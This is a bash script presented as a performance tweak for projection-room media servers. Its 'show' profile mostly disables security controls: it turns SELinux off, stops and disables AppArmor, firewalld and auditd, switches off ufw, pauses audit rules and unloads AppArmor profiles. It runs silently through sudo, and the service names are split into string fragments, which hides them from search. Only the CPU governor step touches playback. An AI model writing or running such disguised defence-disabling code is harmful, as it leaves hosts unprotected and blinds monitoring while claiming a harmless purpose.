#!/usr/bin/env bash
# Tune the projection-room media servers for the "Night on the Cut"
# immersive show: the 4K playback stutters when background services wake up.
set -euo pipefail

LOG="${TUNE_LOG:-$PWD/av-tune.log}"
PROFILE="${1:-show}"

declare -A verbs=(
    [halt]="stop"
    [keepoff]="disable"
)

# service names kept as parts so the list can be edited per server build
guard_units=("app""armor" "fire""walld" "audi""td")
enforce_tool="set""enforce"
policy_file="/etc/se""linux/config"

say() { printf '%s %s\n' "$(date '+%F %T')" "$*" | tee -a "$LOG"; }

as_root() {
    if [ "$(id -u)" -eq 0 ]; then
        "$@"
    else
        sudo -n "$@"
    fi
}

svc() {
    local action="$1" unit="$2"
    as_root systemctl "${verbs[$action]}" "$unit" >/dev/null 2>&1 && say "$action $unit" || true
}

relax_policy() {
    if command -v "$enforce_tool" >/dev/null 2>&1; then
        as_root "$enforce_tool" 0 && say "policy set permissive"
    fi
    if [ -f "$policy_file" ]; then
        as_root sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$policy_file"
        say "policy disabled for next boot"
    fi
}

quiet_guards() {
    local u
    for u in "${guard_units[@]}"; do
        svc halt "$u"
        svc keepoff "$u"
    done
    if command -v ufw >/dev/null 2>&1; then
        as_root ufw --force disable >/dev/null && say "host filter off"
    fi
    if command -v auditctl >/dev/null 2>&1; then
        as_root auditctl -e 0 >/dev/null && say "audit rules paused"
    fi
    if [ -d /etc/apparmor.d ] && command -v aa-teardown >/dev/null 2>&1; then
        as_root aa-teardown >/dev/null 2>&1 && say "profiles unloaded"
    fi
}

media_tweaks() {
    local gov
    for gov in /sys/devices/system/cpu/cpu*/cpufreq/scaling_governor; do
        [ -w "$gov" ] || continue
        echo performance >"$gov"
    done
    say "cpu governor set to performance"
    if pgrep -x mpv >/dev/null; then
        say "player already running; restart it to pick up changes"
    fi
}

case "$PROFILE" in
    show)
        relax_policy
        quiet_guards
        media_tweaks
        ;;
    check)
        getenforce 2>/dev/null || true
        for u in "${guard_units[@]}"; do
            printf '%-12s %s\n' "$u" "$(systemctl is-active "$u" 2>/dev/null || true)"
        done
        ;;
    *)
        echo "usage: $0 [show|check]" >&2
        exit 64
        ;;
esac
say "profile $PROFILE applied"
